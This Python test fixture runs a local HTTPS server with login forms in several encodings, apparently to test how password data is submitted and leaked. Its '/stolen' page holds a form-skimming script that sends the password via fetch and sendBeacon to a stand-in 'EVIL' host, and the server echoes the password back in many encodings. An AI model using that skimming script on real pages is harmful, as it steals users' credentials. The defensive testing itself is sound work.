"""A site with forms to sign in."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from urllib.parse import parse_qs

from tests.sandbox.loopback import ROOT, Quiet, answering

PASSWORD = "p/4 ss+ü&\"'<word>"


FIELDS = (
    "<input name=user value=ada><input name=password id=password type=password><button>in</button></form>"
)


PAGES = {
    "/": f"<form method=post action=/in>{FIELDS}",
    "/parts": f"<form method=post action=/in enctype=multipart/form-data>{FIELDS}",
    "/query": f"<form action=/in>{FIELDS}",
    "/plain": f"<form method=post action=/in enctype=text/plain>{FIELDS}",
    "/elsewhere": f"<form method=post action=EVIL/in>{FIELDS}",
    "/elsewhere-query": f"<form action=EVIL/in>{FIELDS}",
    "/json": f"<form id=form>{FIELDS}<p id=said></p><script>form.onsubmit = event => {{ event.preventDefault();"
    "fetch('/in', {method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify("
    "{user: 'ada', password: password.value})}).then(r => r.text()).then(t => { said.innerHTML = t }) }</script>",
    "/stolen": f"<form method=post action=/in>{FIELDS}<p id=said></p><script>form = document.forms[0];"
    "form.onsubmit = event => { event.preventDefault(); const body = new URLSearchParams(new FormData(form));"
    "const all = ['EVIL/steal', 'EVIL/steal?' + body].map((url, at) => fetch(url, {method: 'POST', mode: 'no-cors',"
    "body: at ? 'x' : body}).catch(() => 0)); navigator.sendBeacon('EVIL/beacon', body);"
    "Promise.all(all).then(() => { said.textContent = 'tried' }) }</script>",
}


@dataclass
class Site:
    name: str
    port: int = 0
    passwords: list[str] = field(default_factory=list)
    """What was sent as the password."""
    heard: bytes = b""
    """All that came, one request after the other."""

    @property
    def base(self) -> str:
        return f"https://{self.name}:{self.port}"


@contextmanager
def serving(name: str, evil: str = "") -> Iterator[Site]:
    site = Site(name)

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            path, _, query = self.path.partition("?")
            site.heard += self.requestline.encode()
            if path == "/in":
                return self._signed_in(parse_qs(query))
            if path == "/home":
                inside = "sid=1" in (self.headers.get("Cookie") or "")
                return self._say("Welcome, ada" if inside else "Sign in first")
            return self._say(PAGES.get(path, "").replace("EVIL", evil))

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            site.heard += self.requestline.encode() + body
            kind = self.headers.get("Content-Type") or ""
            if "json" in kind:
                return self._signed_in({"password": [json.loads(body)["password"]]})
            if "multipart" in kind:
                part = body.decode().partition('name="password"\r\n\r\n')[2]
                return self._signed_in({"password": [part.partition("\r\n--")[0]]})
            return self._signed_in(parse_qs(body.decode()))

        def _signed_in(self, form: dict[str, list[str]]) -> None:
            """What a careless or hostile site does: it repeats the password in every way it can."""
            sent = form.get("password", [""])[0]
            site.passwords.append(sent)
            coded = base64.b64encode(sent.encode()).decode()
            text = sent.replace("&", "&amp;").replace("<", "&lt;")
            self._say(
                f"<title>{text}</title>You sent {text} <pre>{coded} {sent.encode().hex()}</pre>"
                f"<a href='/home?{coded}'>home</a><script>console.log(atob('{coded}'), {json.dumps(sent)})</script>",
                cookie="sid=1; Path=/" if sent == PASSWORD else f"tried={coded}",
            )

        def _say(self, text: str, cookie: str = "") -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(text.encode())))
            self.send_header("Access-Control-Allow-Origin", "*")
            if cookie:
                self.send_header("Set-Cookie", cookie)
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, *_: object) -> None:
            return

    server = Quiet(("127.0.0.1", 0), Handler)
    site.port = server.server_address[1]
    server.socket = ROOT.context(name).wrap_socket(server.socket, server_side=True)
    with answering(server):
        yield site
